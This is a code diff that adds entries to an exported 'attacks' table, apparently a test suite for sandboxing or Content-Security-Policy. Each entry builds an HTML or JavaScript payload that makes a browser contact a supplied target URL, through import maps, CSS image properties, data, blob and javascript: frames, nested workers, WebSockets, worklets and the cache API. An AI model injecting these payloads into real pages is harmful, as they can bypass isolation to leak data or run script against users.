@@ -62,4 +62,49 @@ export const attacks: Readonly<Record<string, (target: string) => string>> = {
 		`<script>try { new WebTransport('${target.replace('http:', 'https:')}/transport').ready.catch(() => {}) } catch {}</script>`,
 	reporting: (target) =>
 		`<meta http-equiv="Content-Security-Policy-Report-Only" content="report-uri ${target}/csp">`,
+	'module preload': (target) => `<link rel="modulepreload" href="${target}/modulepreload.js">`,
+	'import map': (target) =>
+		`<iframe srcdoc="<script type=importmap>{&quot;imports&quot;:{&quot;a&quot;:&quot;${target}/mapped.js&quot;}}</script><script type=module>import('a').catch(() => {})</script>"></iframe>`,
+	'image button': (target) => `<input type="image" src="${target}/button.png" alt="x">`,
+	'background attribute': (target) =>
+		`<table background="${target}/table.png"><tr><td>x</td></tr></table>`,
+	'CSS cursor, list, mask, border and content': (target) =>
+		`<ul style="cursor:url(${target}/cursor.cur),auto;list-style-image:url(${target}/list.png);mask-image:url(${target}/mask.svg);border-image:url(${target}/border.png) 1"><li>x</li></ul><style>li::after{content:url(${target}/content.png)}</style>`,
+	'CSS filter': (target) => `<p style="filter:url(${target}/filter.svg#f)">x</p>`,
+	'stylesheet of a script': (target) =>
+		`<script>{ const s = new CSSStyleSheet(); s.replaceSync('p{background:url(${target}/sheet.png)}'); document.adoptedStyleSheets = [s]; }</script>`,
+	'stylesheet in a shadow root': (target) =>
+		`<div id="host"></div><script>host.attachShadow({ mode: 'closed' }).innerHTML = '<link rel="stylesheet" href="${target}/shadow.css">';</script>`,
+	'font of a script': (target) =>
+		`<script>new FontFace('b', 'url(${target}/face.woff)').load().catch(() => {})</script>`,
+	'SVG filter image': (target) =>
+		`<svg><filter id="f"><feImage href="${target}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
+	'frame in an SVG': (target) =>
+		`<svg><foreignObject><iframe src="${target}/foreign"></iframe></foreignObject></svg>`,
+	'frame of a data URL': (target) =>
+		`<iframe src="data:text/html,<script>fetch('${target}/data',{mode:'no-cors'})</script>"></iframe>`,
+	'frame of a blob': (target) =>
+		`<script>{ const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<script>fetch('${target}/blob',{mode:'no-cors'})</" + "script>"], { type: 'text/html' })); document.body.append(f); }</script>`,
+	'frame of a script URL': (target) =>
+		`<iframe src="javascript:fetch('${target}/script-url',{mode:'no-cors'})"></iframe>`,
+	'XML with a stylesheet': (target) =>
+		`<script>{ const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<?xml-stylesheet type="text/xsl" href="${target}/x.xsl"?><a/>'], { type: 'text/xml' })); document.body.append(f); }</script>`,
+	'script written into the page': (target) =>
+		`<script>document.write('<script src="${target}/written.js"></' + 'script>')</script>`,
+	'popup without a tie to its opener': (target) =>
+		`<script>open('${target}/noopener', '_blank', 'noopener')</script>`,
+	'navigation of a frame': (target) =>
+		`<iframe name="n"></iframe><script>frames.n.location = '${target}/navigated'</script>`,
+	'module worker': (target) =>
+		`<script>new Worker(URL.createObjectURL(new Blob(["import('${target}/worker-module.js').catch(()=>{})"], { type: 'text/javascript' })), { type: 'module' })</script>`,
+	'worker in a worker': (target) =>
+		`<script>new Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL(new Blob([\\"fetch('${target}/nested',{mode:'no-cors'})\\"])))"])))</script>`,
+	'WebSocket of a worker': (target) =>
+		`<script>new Worker(URL.createObjectURL(new Blob(["new WebSocket('${target.replace('http', 'ws')}/worker-socket')"])))</script>`,
+	'WebSocket stream': (target) =>
+		`<script>try { new WebSocketStream('${target.replace('http', 'ws')}/stream').opened.catch(() => {}) } catch {}</script>`,
+	worklets: (target) =>
+		`<script>CSS.paintWorklet?.addModule('${target}/paint.js').catch(() => {}); new OfflineAudioContext(1, 1, 8000).audioWorklet?.addModule('${target}/audio.js').catch(() => {})</script>`,
+	cache: (target) =>
+		`<script>globalThis.caches?.open('a').then((c) => c.add(new Request('${target}/cache', { mode: 'no-cors' }))).catch(() => {})</script>`,
 };
